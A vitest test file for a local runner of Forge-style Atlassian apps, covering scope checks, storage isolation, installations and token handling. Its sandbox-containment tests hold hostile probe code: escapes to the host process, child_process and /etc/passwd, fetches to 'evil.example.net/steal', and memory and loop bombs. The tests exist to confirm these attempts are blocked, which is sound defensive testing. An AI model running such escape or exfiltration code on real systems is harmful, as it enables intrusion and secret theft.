import { randomBytes } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { sampleAppCopy, scratchFolder, smallApp } from '../testing';
import { AppRunner } from './app-runner';

const runners: AppRunner[] = [];
afterEach(() => runners.splice(0).forEach((runner) => runner.close()));
// The key the workbench would get from the keychain; a fixed one here (the keychain has its own tests).
const storageKey = randomBytes(32);
function runnerFor(folder: string, dataDir: string | null = scratchFolder()) {
  const runner = new AppRunner(folder, { dataDir, secretKey: async () => storageKey });
  runners.push(runner);
  return runner;
}

describe('running the sample app', () => {
  it('runs the issue panel resolver with the real @forge packages and answers Jira from fixtures', async () => {
    const outcome = await runnerFor(sampleAppCopy()).run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
    expect(outcome).toMatchObject({ status: 'ok', result: { key: 'DEMO-1', status: 'In Progress', labels: ['radar', 'release'], latestRelease: null } });
    expect(outcome.calls[0]).toMatchObject({ kind: 'product', allowed: true, reason: 'GET /rest/api/3/issue/{issueIdOrKey} (scopes approved)' });
  });

  it('refuses the same call once the scope is removed, naming the scope', async () => {
    const folder = sampleAppCopy();
    const manifest = path.join(folder, 'manifest.yml');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('    - read:jira-work\n', ''));
    const outcome = await runnerFor(folder).run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
    expect(outcome.status).toBe('error');
    expect(outcome.error).toContain('Jira answered 401');
    expect(outcome.calls[0]).toMatchObject({ allowed: false, reason: expect.stringContaining('needs the scope read:jira-work') });
  });

  it('keeps storage per environment: a web trigger in development is not seen in staging', async () => {
    const runner = runnerFor(sampleAppCopy());
    const posted = await runner.run({ functionKey: 'record-deployment', payload: { method: 'POST', body: '{"version":"2.0.1","environment":"ci"}' } });
    expect(posted.result).toMatchObject({ statusCode: 204 });
    const development = await runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
    expect(development.result).toMatchObject({ lastDeployment: { version: '2.0.1', environment: 'ci' } });
    const staging = await runner.run({ functionKey: 'getIssueRadar', environment: 'staging', resolverKeys: ['getIssueRadar'] });
    expect(staging.result).toMatchObject({ lastDeployment: null });
  });

  it('picks up a change under src/ on the next invocation, and shows a build error with file and line', async () => {
    const folder = sampleAppCopy();
    const runner = runnerFor(folder);
    const source = path.join(folder, 'src', 'index.js');
    writeFileSync(source, readFileSync(source, 'utf8').replace("status: issue.fields.status?.name ?? 'Unknown',", "status: 'changed',"));
    expect((await runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] })).result).toMatchObject({ status: 'changed' });
    writeFileSync(source, 'export const handler = (;\n');
    await expect(runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] })).rejects.toThrow(/src\/index\.js:1:\d+/);
  });
});

const CONTAINED = `
modules:
  scheduledTrigger:
    - key: tick
      function: probe
      interval: hour
  function:
    - key: probe
      handler: index.probe
      timeoutSeconds: 2
permissions:
  scopes:
    - read:jira-work
  external:
    fetch:
      backend:
        - address: api.example.com
app:
  id: ari:cloud:ecosystem::app/00000000-0000-0000-0000-000000000001
  runtime:
    name: nodejs22.x
    memoryMB: 128
`;

describe('hostile app code is contained', () => {
  async function probe(body: string, payload: unknown = {}) {
    const folder = smallApp(CONTAINED, `export async function probe(payload) {\n${body}\n}\n`);
    const runner = runnerFor(folder);
    return { outcome: await runner.run({ functionKey: 'probe', payload }), runner };
  }

  it('state left in globals or module scope is not seen by the next invocation', async () => {
    const folder = smallApp(
      CONTAINED,
      'let count = 0;\nexport async function probe() { count += 1; globalThis.seen = (globalThis.seen ?? 0) + 1; Object.prototype.polluted = true; return { count, seen: globalThis.seen }; }\n',
    );
    const runner = runnerFor(folder);
    expect((await runner.run({ functionKey: 'probe' })).result).toEqual({ count: 1, seen: 1 });
    expect((await runner.run({ functionKey: 'probe' })).result).toEqual({ count: 1, seen: 1 });
  });

  it('sees none of Anvil\u2019s environment and no way to the host process', async () => {
    process.env.ANVIL_TEST_SECRET = 'host-secret-value';
    const { outcome } = await probe(`
      const escapes = [];
      for (const attempt of [() => this.constructor.constructor('return process')(), () => (function () {}).constructor('return process')(), () => require('child_process'), () => require('net'), () => require('fs').readFileSync('/etc/passwd', 'utf8')]) {
        try { const value = attempt(); escapes.push(typeof value === 'object' && value !== null && 'pid' in value ? 'ESCAPED' : 'blocked'); } catch (error) { escapes.push('blocked: ' + String(error.message).slice(0, 60)); }
      }
      return { env: JSON.stringify(process.env), escapes };`);
    delete process.env.ANVIL_TEST_SECRET;
    expect(outcome.status).toBe('ok');
    const result = outcome.result as { env: string; escapes: string[] };
    expect(result.env).not.toContain('host-secret-value');
    expect(result.escapes.every((entry) => entry.startsWith('blocked'))).toBe(true);
  });

  it('refuses fetch to an undeclared host, by name or by IP, with the platform\u2019s egress error', async () => {
    const { outcome } = await probe(`
      const a = await fetch('https://evil.example.net/steal');
      const b = await fetch('https://93.184.216.34/x');
      const c = await fetch('http://api.example.com/plain');
      return [a.status, b.status, c.status, (await a.json()).code];`);
    expect(outcome.result).toEqual([403, 403, 403, 'REQUEST_EGRESS_ALLOWLIST_ERR']);
    expect(outcome.calls.map((call) => call.allowed)).toEqual([false, false, false]);
    expect(outcome.calls[0]!.reason).toContain('add {address: evil.example.net}');
  });

  it('gives every started invocation a final status in the records, even one that never reached the runner', async () => {
    const folder = smallApp(CONTAINED, 'export async function probe(payload) { if (payload.loop) for (;;) {} return "fine"; }\n');
    const records: { id: string; status: string | null; error: string | null }[] = [];
    let variablesFail = false;
    const runner = new AppRunner(folder, {
      dataDir: scratchFolder(),
      secretKey: async () => storageKey,
      variables: async () => {
        if (variablesFail) throw new Error('the keychain is locked');
        return {};
      },
      onInvocation: (origin, outcome) => records.push({ id: origin.invocationId, status: outcome?.status ?? null, error: outcome?.error ?? null }),
    });
    runners.push(runner);
    expect((await runner.run({ functionKey: 'probe', payload: { loop: true } })).status).toBe('timeout');
    variablesFail = true;
    await expect(runner.run({ functionKey: 'probe', payload: {} })).rejects.toThrow('the keychain is locked');
    const byInvocation = new Map<string, (string | null)[]>();
    for (const record of records) byInvocation.set(record.id, [...(byInvocation.get(record.id) ?? []), record.status]);
    // Each invocation: recorded as running (null), then once with its final status.
    expect([...byInvocation.values()]).toEqual([
      [null, 'timeout'],
      [null, 'crashed'],
    ]);
    expect(records.at(-1)!.error).toContain('the keychain is locked');
  }, 30_000);

  it('stops a synchronous endless loop and an endless microtask loop, and keeps serving', async () => {
    const folder = smallApp(
      CONTAINED,
      'export async function probe(payload) { if (payload.kind === "sync") { for (;;) {} } if (payload.kind === "micro") { const spin = () => Promise.resolve().then(spin); spin(); await new Promise(() => {}); } return "fine"; }\n',
    );
    const runner = runnerFor(folder);
    const sync = await runner.run({ functionKey: 'probe', payload: { kind: 'sync' } });
    expect(sync.status).toBe('timeout');
    // A microtask chain also allocates: it ends at the time limit or the memory cap, whichever comes first.
    const micro = await runner.run({ functionKey: 'probe', payload: { kind: 'micro' } });
    expect(['timeout', 'crashed']).toContain(micro.status);
    expect(micro.error).toMatch(/timed out|longer than its limit|out of memory/);
    expect((await runner.run({ functionKey: 'probe', payload: { kind: 'none' } })).result).toBe('fine');
  }, 30_000);

  it('ends a memory bomb as out of memory, and the next invocation runs in a fresh process', async () => {
    const folder = smallApp(CONTAINED, 'export async function probe(payload) { if (payload.bomb) { const hoard = []; for (;;) hoard.push(new Array(1e6).fill(hoard.length)); } return "alive"; }\n');
    const runner = runnerFor(folder);
    const bomb = await runner.run({ functionKey: 'probe', payload: { bomb: true } });
    expect(bomb.status === 'crashed' || bomb.status === 'timeout').toBe(true);
    if (bomb.status === 'crashed') expect(bomb.error).toContain('out of memory');
    expect((await runner.run({ functionKey: 'probe', payload: {} })).result).toBe('alive');
  }, 30_000);

  it('caps a log flood and says how many lines were dropped', async () => {
    const { outcome } = await probe('for (let i = 0; i < 20000; i++) console.log("line " + i); return "done";');
    expect(outcome.result).toBe('done');
    // The kept lines, the host's count of the rest, and the notice of what the platform would drop.
    expect(outcome.logs.length).toBeLessThanOrEqual(502);
    expect(outcome.logs.at(-2)!.message).toMatch(/dropped|more log lines/);
    expect(outcome.logs.at(-1)!.message).toMatch(/^The platform would drop [\d,]+ of this invocation's [\d,]+ log lines: it keeps 100 log lines per invocation/);
  }, 30_000);
});

describe('installations', () => {
  /** A stand-in for acme.atlassian.net on loopback that records what reached it. */
  async function fakeSite(): Promise<{ origin: string; seen: { url: string; authorization: string | undefined }[]; close: () => void }> {
    const seen: { url: string; authorization: string | undefined }[] = [];
    const server = createServer((request, response) => {
      seen.push({ url: request.url ?? '', authorization: request.headers.authorization });
      if (request.url?.startsWith('/rest/api/3/issue/DEMO-1')) {
        response.writeHead(200, { 'content-type': 'application/json', 'set-cookie': 'session=site-cookie' });
        response.end(JSON.stringify({ key: 'DEMO-1', fields: { summary: 'From the real site', status: { name: 'Done' }, labels: ['live'] } }));
        return;
      }
      response.writeHead(302, { location: 'https://elsewhere.example.com/steal' });
      response.end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    return { origin: `http://127.0.0.1:${port}`, seen, close: () => server.close() };
  }

  it('sends calls of a real-site installation to that site with the developer\u2019s token, which app code never sees', async () => {
    const site = await fakeSite();
    try {
      const folder = sampleAppCopy();
      const runner = new AppRunner(folder, {
        dataDir: scratchFolder(),
        site: { login: async () => ({ email: 'dev@example.com', token: 'ATATT-token-1234' }), origin: () => site.origin },
      });
      runners.push(runner);
      runner.saveInstallation('development', { name: 'acme', site: 'acme.atlassian.net', product: 'jira', target: 'site' });
      const outcome = await runner.run({ functionKey: 'getIssueRadar', installation: 'acme', resolverKeys: ['getIssueRadar'] });
      expect(outcome).toMatchObject({ status: 'ok', installation: 'acme', result: { status: 'Done', labels: ['live'] } });
      expect(outcome.calls[0]!.reason).toContain('sent to acme.atlassian.net as dev@example.com: 200');
      expect(site.seen[0]!.authorization).toBe(`Basic ${Buffer.from('dev@example.com:ATATT-token-1234').toString('base64')}`);
      expect(JSON.stringify(outcome)).not.toContain('ATATT-token-1234');
      // The built-in local installation still answers from fixtures.
      const local = await runner.run({ functionKey: 'getIssueRadar', resolverKeys: ['getIssueRadar'] });
      expect(local).toMatchObject({ installation: 'local-jira', result: { status: 'In Progress' } });
    } finally {
      site.close();
    }
  });

  it('says which installations exist when asked for one that does not, and refuses a token-carrying target outside Atlassian', async () => {
    const runner = runnerFor(sampleAppCopy());
    await expect(runner.run({ functionKey: 'getIssueRadar', installation: 'nowhere', resolverKeys: ['getIssueRadar'] })).rejects.toThrow(
      /No installation named "nowhere" in development; use one of local-jira/,
    );
    expect(() => runner.saveInstallation('development', { name: 'evil', site: 'collector.evil.test', product: 'jira', target: 'site' })).toThrow(/only to Atlassian sites/);
    expect(() => runner.deleteInstallation('development', 'local-jira')).toThrow(/cannot be deleted/);
    runner.saveInstallation('staging', { name: 'acme', site: 'https://ACME.atlassian.net/', product: 'jira', target: 'fixtures' });
    expect((await runner.listInstallations('staging')).map((installation) => `${installation.name} ${installation.site}`)).toEqual(['local-jira local-jira.atlassian.net', 'acme acme.atlassian.net']);
    expect((await runner.listInstallations('development')).map((installation) => installation.name)).toEqual(['local-jira']);
  });

  it('keeps storage apart per installation, and refuses storage without storage:app', async () => {
    const folder = sampleAppCopy();
    const runner = runnerFor(folder);
    runner.saveInstallation('development', { name: 'globex', site: 'globex.atlassian.net', product: 'jira', target: 'fixtures' });
    await runner.run({ functionKey: 'record-deployment', installation: 'globex', payload: { method: 'POST', body: '{"version":"3.1.0","environment":"prod"}' } });
    expect(await runner.storage('development', 'globex')).toEqual([expect.objectContaining({ space: 'value', key: expect.any(String) })]);
    expect(await runner.storage('development')).toEqual([]);
    const manifest = path.join(folder, 'manifest.yml');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('    - storage:app\n', ''));
    const refused = await runner.run({ functionKey: 'getIssueRadar', installation: 'globex', resolverKeys: ['getIssueRadar'] });
    expect(refused.calls.find((call) => call.kind === 'storage')).toMatchObject({ allowed: false, reason: expect.stringContaining('needs the scope storage:app') });
  });
});
